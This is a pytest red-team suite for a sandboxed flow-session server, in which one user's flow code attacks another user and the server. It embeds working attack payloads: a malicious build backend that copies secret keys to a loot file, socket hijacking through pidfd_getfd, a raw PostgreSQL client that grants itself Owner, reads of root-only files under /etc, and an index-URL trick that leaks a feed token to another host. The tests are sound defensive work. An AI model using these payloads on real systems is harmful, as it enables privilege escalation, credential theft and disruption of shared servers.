"""Red team: bob, a Data Scientist, against alice (another one) and the server itself, on a
real server with real (sandboxed) sessions.

Each test is one attack that worked before its fix (or still does: ``xfail(strict=True)``
with the fix it needs). What held is in the closing report, not here.
"""

from __future__ import annotations

import contextlib
import http.server
import io
import os
import shutil
import signal
import tarfile
import threading
import time
from pathlib import Path

import httpx
import pytest

from flowsession.backends.compute import procs, sandbox
from flowsession.config import Settings
from helpers.server import Server

pytestmark = [pytest.mark.timeout(600),
              pytest.mark.skipif(sandbox.bwrap_path() is None and not os.environ.get("CI"),
                                 reason="the session boundary needs bubblewrap")]

ECHO_YAML = """\
inputs:
  x: {type: string}
outputs:
  y: {type: string, reference: "${echo.output}"}
nodes:
- name: echo
  type: python
  source: {type: code, path: echo.py}
  inputs: {x: "${inputs.x}"}
"""
ECHO_PY = "from promptflow.core import tool\n\n\n@tool\ndef echo(x: str) -> str:\n    return x\n"


@pytest.fixture(scope="module")
def server(tmp_path_factory, images_dir, index):
    home = tmp_path_factory.mktemp("redteam") / "home"
    srv = Server(home, images_dir, index.url)
    try:
        yield srv
    finally:
        srv.stop()
        runtime = Settings(home=home).runtime_dir
        for pid in procs.with_argument_under(str(runtime)):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        shutil.rmtree(runtime, ignore_errors=True)


def api(srv: Server, token: str, timeout: float = 300) -> httpx.Client:
    return httpx.Client(base_url=srv.url, headers={"Authorization": f"Bearer {token}"},
                        timeout=timeout)


def new_user(srv: Server, name: str) -> str:
    with api(srv, srv.token) as admin:
        r = admin.post("/api/users", json={"name": name, "roles": ["Data Scientist"]})
        assert r.status_code == 201, r.text
        return r.json()["token"]


@pytest.fixture(scope="module")
def owner_secret(server) -> bytes:
    with api(server, server.token) as admin:  # the Owner keeps a secret: the key exists
        r = admin.post("/api/connections", json={"name": "owner_openai", "type": "custom",
                                                 "secrets": {"key": "sk-owner-secret-0123"}})
        assert r.status_code in (200, 201), r.text
    return (server.home / "secret.key").read_bytes().strip()


@pytest.fixture(scope="module")
def bob(server, owner_secret) -> httpx.Client:
    with api(server, new_user(server, "bob")) as c:
        yield c


@pytest.fixture(scope="module")
def alice(server, owner_secret) -> httpx.Client:
    with api(server, new_user(server, "alice")) as c:
        yield c


def wait_operation(client: httpx.Client, answer: httpx.Response, timeout: float = 300) -> dict:
    body = answer.json()
    op = body.get("operation") or body
    deadline = time.monotonic() + timeout
    while op.get("id") and op.get("status") not in ("succeeded", "failed"):
        assert time.monotonic() < deadline, op
        time.sleep(0.2)
        op = client.get(f"/api/operations/{op['id']}").json()
    return op


# --- 1. a flow's requirements run code on the server, outside any sandbox --------------------

BACKEND_PY = '''\
"""A PEP 517 build backend that is an attacker's code: it runs wherever the sdist is built."""
import os, pathlib
home = pathlib.Path(os.environ.get("FLOWSESSION_HOME", "/nonexistent"))
loot = home / "flows" / "bob" / "builder" / "loot.txt"
try:
    loot.write_text((home / "client.json").read_text() + "\\n"
                    + (home / "secret.key").read_text())
except OSError:
    pass
raise RuntimeError("this backend builds nothing")
'''


def evil_sdist() -> bytes:
    """evilpkg-1.0.tar.gz: an in-tree build backend, no static metadata (so it must be
    built to be resolved)."""
    files = {"evilpkg-1.0/pyproject.toml": '[build-system]\nrequires = []\n'
             'build-backend = "backend"\nbackend-path = ["."]\n',
             "evilpkg-1.0/backend.py": BACKEND_PY}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@contextlib.contextmanager
def serve_bytes(name: str, data: bytes):
    """bob's own web server (anywhere on the internet, in real life)."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            if self.path.lstrip("/") != name:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}/{name}"
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_a_flows_requirements_cannot_run_code_on_the_server(server, bob, owner_secret):
    with serve_bytes("evilpkg-1.0.tar.gz", evil_sdist()) as url:
        r = bob.post("/api/flows", json={"name": "builder", "files": {
            "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY,
            "requirements.txt": f"evilpkg @ {url}\n"}})
        assert r.status_code == 201, r.text
        r = bob.post("/api/flows/builder/session")
        assert r.status_code == 202, r.text
        op = wait_operation(bob, r)
    assert op["status"] == "failed", op  # a source distribution is refused, not built
    assert "Building source distributions" in op["error"]["message"], op
    loot = bob.get("/api/flows/builder/files/loot.txt")
    assert loot.status_code == 404, loot.text[:300]
    assert not (server.home / "flows" / "bob" / "builder" / "loot.txt").exists()
    assert owner_secret not in loot.content and server.token.encode() not in loot.content


# --- 2. an environment built from bob's index is handed to alice ----------------------------

WHICH_YAML = ECHO_YAML.replace("echo.py", "which.py").replace("${echo.output}",
                                                              "${echo.output}")
WHICH_PY = ("from promptflow.core import tool\n\n\n@tool\ndef echo(x: str) -> str:\n"
            "    import tinysecret\n    return getattr(tinysecret, 'BUILT_BY', 'the index')\n")


def test_an_environment_built_from_another_users_index_is_never_shared(
        server, bob, alice, tmp_path):
    from helpers.index_server import LocalIndex
    from helpers.wheels import build_wheel

    # bob's own index serves a package of the same name and version as the server's index
    # (in real life: a popular package, e.g. requests==2.32.3), with his code in it
    build_wheel(tmp_path / "bobs-index", "tinysecret", "1.0", modules={
        "tinysecret/__init__.py": '__version__ = "1.0"\nBUILT_BY = "bob"\n'})
    with LocalIndex(tmp_path / "bobs-index") as bobs:
        r = bob.post("/api/flows", json={"name": "poison", "files": {
            "flow.dag.yaml": WHICH_YAML, "which.py": WHICH_PY,
            "requirements.txt": f"-i {bobs.url}\ntinysecret==1.0\n"}})
        assert r.status_code == 201, r.text
        r = bob.post("/api/flows/poison/test", json={"inputs": {"x": "-"}})
        assert r.status_code == 200, r.text
        assert r.json()["outputs"] == {"y": "bob"}  # his own session has his package
    # alice asks for the same package from the server's index
    r = alice.post("/api/flows", json={"name": "victim", "files": {
        "flow.dag.yaml": WHICH_YAML, "which.py": WHICH_PY,
        "requirements.txt": "tinysecret==1.0\n"}})
    assert r.status_code == 201, r.text
    r = alice.post("/api/flows/victim/test", json={"inputs": {"x": "-"}})
    assert r.status_code == 200, r.text
    assert r.json()["outputs"] == {"y": "the index"}, "alice's session runs bob's package"
    for who, flow in ((bob, "poison"), (alice, "victim")):
        who.post(f"/api/flows/{flow}/session/stop")


# --- 3. bob's slow lines hold up everyone's sessions ----------------------------------------

SLOW_PY = ("import time\nfrom promptflow.core import tool\n\n\n@tool\ndef echo(x: str) -> str:\n"
           "    time.sleep(float(x))\n    return x\n")


def test_another_users_slow_lines_do_not_hold_up_my_session(server, bob, alice):
    r = alice.post("/api/flows", json={"name": "quick", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY}})
    assert r.status_code == 201, r.text
    assert alice.post("/api/flows/quick/test", json={"inputs": {"x": "hi"}}).status_code == 200
    r = bob.post("/api/flows", json={"name": "slow", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": SLOW_PY}})
    assert r.status_code == 201, r.text
    assert bob.post("/api/flows/slow/test", json={"inputs": {"x": "0"}}).status_code == 200
    # bob sends a dozen lines that take a minute each (a flow waiting on a slow model
    # endpoint does the same), each with a line timeout of 40 s
    results: list[int] = []

    def slow_line() -> None:
        with contextlib.suppress(httpx.HTTPError):
            results.append(bob.post("/api/flows/slow/test", timeout=120, json={
                "inputs": {"x": "60"}, "timeout": 40}).status_code)

    threads = [threading.Thread(target=slow_line, daemon=True) for _ in range(12)]
    for t in threads:
        t.start()
    time.sleep(3)
    try:
        started = time.monotonic()
        r = alice.post("/api/flows/quick/test", json={"inputs": {"x": "still here"}},
                       timeout=60)
        took = time.monotonic() - started
        assert r.status_code == 200 and r.json()["outputs"] == {"y": "still here"}, r.text
        assert took < 10, f"alice's one line took {took:.1f} s behind bob's slow lines"
        started = time.monotonic()
        r = alice.get("/api/flows/quick/session", timeout=60)
        assert r.status_code == 200 and time.monotonic() - started < 10
    finally:
        for who, flow in ((bob, "slow"), (alice, "quick")):
            who.post(f"/api/flows/{flow}/session/stop", timeout=150)
        for t in threads:
            t.join(timeout=150)


# --- 4. bob's flow code answers in his supervisor's place ----------------------------------

HIJACK_PY = '''\
import ctypes, os, signal, socket, threading, time
from promptflow.core import tool


def serve(conn, answer):
    buf = b""
    with conn:
        while True:
            chunk = conn.recv(65536)
            if not chunk:
                return
            buf += chunk
            while b"\\n" in buf:
                _, buf = buf.split(b"\\n", 1)
                if answer == b"silence":
                    time.sleep(3600)
                conn.sendall(answer + b"\\n")


@tool
def echo(x: str) -> str:
    """Take the supervisor's listening socket (pidfd_getfd: same uid, no Yama), stop the
    supervisor, and answer the control plane in its place."""
    libc = ctypes.CDLL(None, use_errno=True)
    sup = os.getppid()
    argv = open(f"/proc/{sup}/cmdline", "rb").read().split(b"\\0")
    fd = int(argv[argv.index(b"--listen-fd") + 1])
    stolen = libc.syscall(438, libc.syscall(434, sup, 0), fd, 0)
    if stolen < 0:
        return f"pidfd_getfd failed: errno {ctypes.get_errno()}"
    answer = {"deep": b'{"ok":true,"phase":"ready","x":' + b"[" * 200000 + b"]" * 200000
              + b"}", "silence": b"silence",
              "bulky": b'{"ok":true,"phase":"ready","x":[' + b"{}," * (20 * 1024 * 1024)
              + b'{}]}'}[x]
    if os.fork() == 0:
        os.setsid()
        time.sleep(1)  # the supervisor answers this line first
        os.kill(sup, signal.SIGSTOP)
        listener = socket.socket(fileno=stolen)
        listener.setblocking(True)
        while True:
            conn, _ = listener.accept()
            threading.Thread(target=serve, args=(conn, answer), daemon=True).start()
    return "hijacked"
'''


def wait_listed(client: httpx.Client, flow_path_part: str, states: set[str],
                timeout: float) -> dict | None:
    """The session (as the sweep keeps it, no reconcile per request) once in ``states``."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for s in client.get("/api/sessions", params={"all": True}).json():
            if flow_path_part in s["flow"] and s["state"] in states:
                return s
        time.sleep(1)
    return None


@pytest.mark.parametrize("answer", ["deep"])
def test_a_hijacked_supervisor_cannot_stop_the_sweep_for_everyone(server, bob, alice, answer):
    name = f"hijack-{answer}"
    r = bob.post("/api/flows", json={"name": name, "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": HIJACK_PY}})
    assert r.status_code == 201, r.text
    r = bob.post(f"/api/flows/{name}/test", json={"inputs": {"x": answer}})
    assert r.status_code == 200 and r.json()["outputs"] == {"y": "hijacked"}, r.text
    time.sleep(2)
    # alice's session, started after bob's, ends itself when idle for 5 s: the sweep must
    # see it (and release its compute), whatever bob's session answers
    r = alice.post("/api/flows", json={"name": f"idle-{answer}", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY}})
    assert r.status_code == 201, r.text
    r = alice.post(f"/api/flows/idle-{answer}/session", json={"idle_time": "5s"})
    assert wait_operation(alice, r)["status"] == "succeeded"
    try:
        ended = wait_listed(alice, f"idle-{answer}", {"STOPPED", "FAILED"}, timeout=60)
        assert ended is not None, "alice's ended session is still RUNNING: the sweep is stuck"
        # bob's own requests are clean errors, never a 500
        r = bob.get(f"/api/flows/{name}/session")
        assert r.status_code < 500, r.text
    finally:
        r = bob.post(f"/api/flows/{name}/session/stop", timeout=120)
        assert r.status_code == 200, r.text


# --- 5. many small files in a run's folder: the control plane's work per collect -----------

LITTER_PY = '''\
import glob, os
from promptflow.core import tool


@tool
def echo(x: str) -> str:
    n = int(x)
    for run in glob.glob("/session/state/runs/*"):
        os.makedirs(run + "/logs", exist_ok=True)
        for i in range(n):
            with open(f"{run}/logs/w{i:06d}.log", "w") as f:
                f.write("x")
            open(f"{run}/results.{i:06d}{'k' * 200}.jsonl", "w").close()
    return "littered"
'''


def test_a_run_that_litters_its_folder_does_not_stall_the_server(server, bob, alice):
    r = bob.post("/api/flows", json={"name": "litter", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": LITTER_PY}})
    assert r.status_code == 201, r.text
    r = alice.post("/api/flows", json={"name": "steady", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY}})
    assert r.status_code == 201, r.text
    r = bob.post("/api/runs", json={"flow": "litter", "name": "litter-run",
                                    "data_lines": [{"x": "6000"}],
                                    "column_mapping": {"x": "${data.x}"}})
    assert r.status_code == 202, r.text
    latencies: list[float] = []
    done = threading.Event()

    def alice_reads() -> None:  # alice reads her flow while bob's run is collected
        while not done.is_set():
            started = time.monotonic()
            with contextlib.suppress(httpx.HTTPError):
                alice.get("/api/flows/steady", timeout=300)
            latencies.append(time.monotonic() - started)
            time.sleep(0.2)

    reader = threading.Thread(target=alice_reads, daemon=True)
    reader.start()
    try:
        op = wait_operation(bob, r, timeout=400)
        assert op["status"] == "succeeded", op
        run = bob.get("/api/runs/litter-run", timeout=300).json()
        assert run["status"] == "Completed", run
        done.set()
        reader.join(timeout=300)
        worst = max(latencies)
        assert worst < 5, f"the server did not answer alice for {worst:.1f} s"
        logs = list((server.home / "runs" / "litter-run" / "logs").iterdir())
        assert len(logs) < 300, f"{len(logs)} log files kept for one run"
        cursor = (server.home / "runs" / "litter-run" / "collect.json").stat().st_size
        assert cursor < 1024 * 1024, f"the run's cursor is {cursor} bytes"
    finally:
        bob.post("/api/flows/litter/session/stop", timeout=120)


# --- 6. the session shares the host's network: every loopback service is in reach ---------

PG_PY = '''\
import socket, struct
from promptflow.core import tool


def message(kind, body):
    return kind + struct.pack("!I", len(body) + 4) + body


def read_until_ready(s):
    seen, buf = [], b""
    while True:
        while len(buf) < 5:
            chunk = s.recv(65536)
            if not chunk:
                return seen
            buf += chunk
        kind, size = buf[:1], struct.unpack("!I", buf[1:5])[0]
        while len(buf) < 1 + size:
            buf += s.recv(65536)
        body, buf = buf[5:1 + size], buf[1 + size:]
        seen.append((kind, body))
        if kind in (b"Z",):
            return seen


@tool
def echo(x: str) -> str:
    """PostgreSQL's wire protocol, by hand (no driver in the image): as the server's database
    user, on the host's loopback, which the session shares."""
    database = x  # a real attacker lists pg_database first
    s = socket.create_connection(("127.0.0.1", 5432), timeout=10)
    params = b"user\\0root\\0database\\0" + database.encode() + b"\\0\\0"
    body = struct.pack("!I", 196608) + params
    s.sendall(struct.pack("!I", len(body) + 4) + body)
    seen = read_until_ready(s)
    if not seen or seen[0][0] != b"R" or seen[0][1][:4] != b"\\0\\0\\0\\0":
        return "refused: " + repr(seen[:1])
    sql = ("INSERT INTO role_assignments (\\"user\\", role, assigned_by, created_at) "
           "VALUES ('bob', 'Owner', 'bob', 0)")
    s.sendall(message(b"Q", sql.encode() + b"\\0"))
    answer = read_until_ready(s)
    return "owner now" if any(k == b"C" for k, _ in answer) else "failed: " + repr(answer)
'''


@pytest.fixture
def pg_database():
    try:
        import psycopg

        admin = psycopg.connect("host=127.0.0.1 port=5432 dbname=test user=root",
                                autocommit=True, connect_timeout=3)
    except Exception as exc:  # noqa: BLE001
        pytest.skip(f"PostgreSQL on 127.0.0.1:5432 is not reachable: {exc}")
    name = f"flowsession_redteam_{os.getpid()}"
    admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
    admin.execute(f'CREATE DATABASE "{name}"')
    try:
        yield name, f"postgresql+psycopg://root@127.0.0.1:5432/{name}"
    finally:
        admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        admin.close()


@pytest.mark.xfail(strict=True, reason=(
    "sessions share the host's network namespace (sandbox share_net): flow code reaches every "
    "service bound to the host's loopback -- here the server's PostgreSQL, with the local "
    "trust authentication the test setup itself uses -- and makes its user an Owner. Fix: "
    "run sessions in their own network namespace (bwrap --unshare-net) with outbound access "
    "through a user-mode stack that hides the host's loopback (pasta / slirp4netns "
    "--disable-host-loopback) or an egress proxy, and say which in `session show`"))
def test_flow_code_cannot_reach_the_servers_database_over_loopback(
        tmp_path, images_dir, index, pg_database):
    name, url = pg_database
    srv = Server(tmp_path / "home", images_dir, index.url,
                 env={"FLOWSESSION_DATABASE_URL": url})
    try:
        with api(srv, new_user(srv, "bob")) as bob:
            r = bob.post("/api/flows", json={"name": "pg", "files": {
                "flow.dag.yaml": ECHO_YAML, "echo.py": PG_PY}})
            assert r.status_code == 201, r.text
            r = bob.post("/api/flows/pg/test", json={"inputs": {"x": name}})
            said = r.json().get("outputs", r.json())
            # bob is still a Data Scientist: the users' list is not his to read
            assert bob.get("/api/users").status_code == 403, said
    finally:
        srv.stop()
        runtime = Settings(home=tmp_path / "home").runtime_dir
        for pid in procs.with_argument_under(str(runtime)):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)


# --- 7. no session sees another user's environment ---------------------------------------

SNOOP_PY = '''\
import glob
from promptflow.core import tool


@tool
def echo(x: str) -> str:
    """The environments folder is bound into every session (read-only): look for another
    user's packages (from her private feed, say)."""
    found = glob.glob(x + "/*/lib/python*/site-packages/tinybeta/__init__.py")
    return "|".join(open(p).read().strip() for p in found) or "nothing"
'''


def test_flow_code_cannot_read_another_users_environment(server, bob, alice):
    r = alice.post("/api/flows", json={"name": "private-deps", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY,
        "requirements.txt": "tinybeta==1.0\n"}})
    assert r.status_code == 201, r.text
    assert alice.post("/api/flows/private-deps/test",
                      json={"inputs": {"x": "-"}}).status_code == 200
    r = bob.post("/api/flows", json={"name": "snoop", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": SNOOP_PY}})
    assert r.status_code == 201, r.text
    try:
        r = bob.post("/api/flows/snoop/test",
                     json={"inputs": {"x": str(server.home / "envs")}})
        assert r.status_code == 200, r.text
        assert r.json()["outputs"] == {"y": "nothing"}, r.json()
    finally:
        for who, flow in ((bob, "snoop"), (alice, "private-deps")):
            who.post(f"/api/flows/{flow}/session/stop")


def peak_rss(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) * 1024
    return 0


def test_a_hijacked_supervisors_answer_cannot_blow_up_the_servers_memory(
        tmp_path, images_dir, index):
    """A ping's answer is a few hundred bytes; a 60 MB one of empty objects costs the parser
    over a gigabyte: a few of those at once and the server is gone."""
    srv = Server(tmp_path / "home", images_dir, index.url)
    try:
        with api(srv, new_user(srv, "bob")) as bob:
            r = bob.post("/api/flows", json={"name": "bulky", "files": {
                "flow.dag.yaml": ECHO_YAML, "echo.py": HIJACK_PY}})
            assert r.status_code == 201, r.text
            r = bob.post("/api/flows/bulky/test", json={"inputs": {"x": "bulky"}})
            assert r.status_code == 200 and r.json()["outputs"] == {"y": "hijacked"}, r.text
            time.sleep(2)
            before = peak_rss(srv.proc.pid)
            r = bob.get("/api/flows/bulky/session")  # the server pings the session
            assert r.status_code < 500, r.text
            grew = peak_rss(srv.proc.pid) - before
            assert grew < 300 * 1024 * 1024, f"one ping's answer cost the server {grew >> 20} MB"
            bob.post("/api/flows/bulky/session/stop", timeout=120)
    finally:
        srv.stop()
        runtime = Settings(home=tmp_path / "home").runtime_dir
        for pid in procs.with_argument_under(str(runtime)):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)


# --- 9. the sandbox runs as root: root-only files of the host's /etc are readable ----------

ETC_PY = '''\
import os
from promptflow.core import tool


@tool
def echo(x: str) -> str:
    """uid 0 without capabilities still reads what root owns (owner bits): try every file of
    /etc that the host keeps from other users."""
    read = []
    for top, dirs, files in os.walk("/etc"):
        for name in files:
            path = os.path.join(top, name)
            try:
                st = os.lstat(path)
                if st.st_mode & 0o004 or not os.path.isfile(path) or os.path.islink(path):
                    continue
                with open(path, "rb") as f:
                    if f.read(64):
                        read.append(path)
            except OSError:
                pass
    return "|".join(sorted(read)) or "nothing"
'''


def test_flow_code_cannot_read_the_hosts_private_files_in_etc(server, bob):
    private = [os.path.join(top, n) for top, _, files in os.walk("/etc") for n in files
               if not os.path.islink(os.path.join(top, n))
               and os.path.isfile(os.path.join(top, n))
               and not os.lstat(os.path.join(top, n)).st_mode & 0o004
               and os.path.getsize(os.path.join(top, n)) > 0]
    if not private:
        pytest.skip("this host's /etc has no private file")
    r = bob.post("/api/flows", json={"name": "etc", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": ETC_PY}})
    assert r.status_code == 201, r.text
    try:
        r = bob.post("/api/flows/etc/test", json={"inputs": {"x": "-"}})
        assert r.status_code == 200, r.text
        assert r.json()["outputs"] == {"y": "nothing"}, r.json()  # e.g. /etc/shadow-
    finally:
        bob.post("/api/flows/etc/session/stop")


# --- 10. on PostgreSQL, a NUL byte or an over-long name in a body is a 500 -----------------

def test_text_the_database_cannot_store_is_a_422_on_postgresql(tmp_path, images_dir, index,
                                                               pg_database):
    _, url = pg_database
    srv = Server(tmp_path / "home", images_dir, index.url,
                 env={"FLOWSESSION_DATABASE_URL": url})
    try:
        with api(srv, new_user(srv, "bob")) as bob:
            r = bob.post("/api/flows", json={"name": "f", "files": {
                "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY}})
            assert r.status_code == 201, r.text
            base = {"flow": "f", "data_lines": [{"x": "1"}], "column_mapping": {"x": "${data.x}"}}
            sent = [("POST", "/api/runs", {**base, "display_name": "a\x00b"}),
                    ("POST", "/api/runs", {**base, "description": "a\x00b"}),
                    ("POST", "/api/runs", {**base, "display_name": "d" * 1000}),
                    ("POST", "/api/tokens", {"label": "laptop\x00"})]
            for method, path, body in sent:
                with api(srv, bob.headers["Authorization"].split()[1]) as fresh:
                    r = fresh.request(method, path, json=body)
                assert r.status_code == 422, (path, body, r.status_code, r.text[:300])
                assert r.json()["error"]["code"] == "invalid_input"
    finally:
        srv.stop()


# --- 11. a run with inline data names the server's scratch folder ----------------------------

def test_a_run_with_inline_data_names_no_server_folder(server, bob):
    r = bob.post("/api/flows", json={"name": "inline", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY}})
    assert r.status_code == 201, r.text
    r = bob.post("/api/runs", json={"flow": "inline", "name": "inline-run",
                                    "data_lines": [{"x": "1"}],
                                    "column_mapping": {"x": "${data.x}"}})
    assert r.status_code == 202, r.text
    answers = [r, bob.get(f"/api/operations/{r.json()['operation']['id']}"),
               bob.get("/api/runs/inline-run"), bob.get("/api/runs")]
    wait_operation(bob, r)
    answers.append(bob.get("/api/runs/inline-run"))
    own = str(server.home / "flows" / "bob").encode()
    for a in answers:
        assert a.status_code in (200, 202), a.text
        text = a.content.replace(own, b"")  # his own flow's folder he may see
        assert str(server.home).encode() not in text, a.text[:600]
    assert answers[-1].json()["spec"]["data"] == "data_lines"
    bob.post("/api/flows/inline/session/stop")


# --- 12. no limit on the processes a session may start: one fork bomb, the host's pids -----

def session_cgroup_file(server: Server, name: str) -> Path | None:
    """``name`` (e.g. pids.max) of the cgroup the server's sessions' processes are in."""
    runtime = Settings(home=server.home).runtime_dir
    for pid in procs.with_argument_under(str(runtime / "slots")):
        try:
            lines = Path(f"/proc/{pid}/cgroup").read_text().splitlines()
        except OSError:
            continue
        for line in lines:
            _, controllers, path = line.split(":", 2)
            if "pids" in controllers.split(",") and path.startswith("/flowsession/"):
                mount = Path("/sys/fs/cgroup/pids") if Path("/sys/fs/cgroup/pids").is_dir() \
                    else Path("/sys/fs/cgroup")
                return mount / path.lstrip("/") / name
            if controllers == "" and path.startswith("/flowsession/"):  # cgroup v2
                return Path("/sys/fs/cgroup") / path.lstrip("/") / name
    return None


def test_a_session_cannot_start_unbounded_processes(server, bob):
    """Not a real fork bomb (the machine is shared): the session's group must hold a process
    limit, or its flow code takes every pid of the host (pid_max) within its memory."""
    r = bob.post("/api/flows", json={"name": "forker", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY}})
    assert r.status_code == 201, r.text
    try:
        assert bob.post("/api/flows/forker/test", json={"inputs": {"x": "1"}}).status_code == 200
        shown = bob.get("/api/flows/forker/session").json()
        if "cgroup" not in (shown.get("limits") or shown.get("limits_detail") or "cgroup"):
            pytest.skip(f"no cgroups here: {shown}")
        limit = session_cgroup_file(server, "pids.max")
        if limit is None:
            pytest.skip("the sessions' group has no pids controller here")
        value = limit.read_text().strip()
        assert value != "max" and 0 < int(value) <= 65536, f"{limit}: {value}"
    finally:
        bob.post("/api/flows/forker/session/stop")


# --- 13. a process named like an orphaned session: the control plane deletes what it names --

DECOY_PY = '''\
import os, subprocess, sys
from promptflow.core import tool


@tool
def echo(x: str) -> str:
    """x: the server's sessions folder (/proc/self/mountinfo shows it: the source of the
    /session/work bind). A process whose argument names "<slots>/.." looks, to the orphan
    sweep, like a supervisor of the slot "..", which nobody knows."""
    decoy = x.rstrip("/") + "/slots/../decoy"
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", decoy],
                     start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return "planted"
'''


def test_a_process_named_like_an_orphan_deletes_nothing_of_the_server(
        tmp_path, images_dir, index):
    srv = Server(tmp_path / "home", images_dir, index.url)
    runtime = Settings(home=srv.home).runtime_dir
    try:
        with api(srv, new_user(srv, "alice")) as alice, \
                api(srv, new_user(srv, "bob")) as bob:
            r = alice.post("/api/flows", json={"name": "steady", "files": {
                "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY}})
            assert r.status_code == 201, r.text
            assert alice.post("/api/flows/steady/test",
                              json={"inputs": {"x": "1"}}).status_code == 200
            r = bob.post("/api/flows", json={"name": "decoy", "files": {
                "flow.dag.yaml": ECHO_YAML, "echo.py": DECOY_PY}})
            assert r.status_code == 201, r.text
            r = bob.post("/api/flows/decoy/test", json={"inputs": {"x": str(runtime)}})
            assert r.status_code == 200, r.text
            time.sleep(25)  # two sweeps
            assert (runtime / "slots").is_dir() and (runtime / "control").is_dir(), \
                "the sessions' folders are gone"
            r = alice.post("/api/flows/steady/test", json={"inputs": {"x": "2"}}, timeout=60)
            assert r.status_code == 200, r.text
    finally:
        srv.stop()
        for pid in procs.with_argument_under(str(runtime)):
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        shutil.rmtree(runtime, ignore_errors=True)


# --- 14. a session's folders are the server's disk, unbounded ----------------------------

DISK_PY = '''\
import os
from promptflow.core import tool


@tool
def echo(x: str) -> str:
    st = os.statvfs("/session/work")
    return f"{st.f_fsid} {st.f_bavail * st.f_frsize}"
'''


@pytest.mark.xfail(strict=True, reason=(
    "a session's work and state folders are plain folders of the server's runtime dir, on the "
    "server's disk, with no quota: RLIMIT_FSIZE bounds one file (4 GB), not their number, so "
    "flow code fills the disk the database, the runs and everyone's sessions live on (not "
    "exercised here: the machine is shared). Fix: give each slot a bounded filesystem (a "
    "size-limited tmpfs charged to the compute's memory, a loop-mounted image, or project "
    "quotas) sized from the VM size, and stop the session with a reason when it is full"))
def test_a_sessions_folders_cannot_fill_the_servers_disk(server, bob):
    r = bob.post("/api/flows", json={"name": "disk", "files": {
        "flow.dag.yaml": ECHO_YAML, "echo.py": DISK_PY}})
    assert r.status_code == 201, r.text
    try:
        r = bob.post("/api/flows/disk/test", json={"inputs": {"x": "-"}})
        assert r.status_code == 200, r.text
        fsid, free = r.json()["outputs"]["y"].split()
        assert int(fsid) != os.statvfs(server.home).f_fsid, (
            f"the session writes on the server's own disk ({int(free) >> 30} GB free)")
    finally:
        bob.post("/api/flows/disk/session/stop")


# --- 15. a feed URL read one way by the server and another by uv: the team's secret leaks ----

@contextlib.contextmanager
def recording_server():
    """bob's web server: it records every request line it gets."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            seen.append(f"{self.path} {self.headers.get('Authorization')}")
            self.send_error(404)

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        yield f"127.0.0.1:{httpd.server_address[1]}", seen
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_a_managed_identitys_feed_secret_never_leaves_for_another_host(
        server, bob, wheelhouse):
    from helpers.index_server import LocalIndex

    secret = "team-user:team-feed-token-0123"
    with LocalIndex(wheelhouse.directory, auth=tuple(secret.split(":", 1))) as feed, \
            recording_server() as (evil, seen), api(server, server.token) as admin:
        host = feed.url.split("//", 1)[1].split("/", 1)[0]
        r = admin.post("/api/identities", json={"name": "team"})
        assert r.status_code == 201, r.text
        r = admin.put(f"/api/identities/team/feeds/{host}", json={"secret": secret})
        assert r.status_code == 200, r.text
        r = admin.post("/api/roles", json={"name": "TeamUser", "scopes": ["identities:use:team"]})
        assert r.status_code == 201, r.text
        r = admin.post("/api/role-assignments", json={"user": "bob", "role": "TeamUser"})
        assert r.status_code == 201, r.text
        # the team's feed, as bob may use it, and an index that the server reads as <evil>
        # but whose {private} it fills for the team's host (the text after the '@')
        requirements = (f"-i http://{{private}}@{host}/simple\n"
                        f"--extra-index-url http://{evil}/simple?{{private}}@{host}/simple\n"
                        "tinyalpha==1.0\n")
        r = bob.post("/api/flows", json={"name": "feedthief", "files": {
            "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY, "requirements.txt": requirements}})
        if r.status_code == 201:
            r = bob.post("/api/flows/feedthief/environment/build", json={"identity": "team"})
            assert r.status_code == 202, r.text
            op = wait_operation(bob, r)
            assert "team-feed-token" not in str(op)
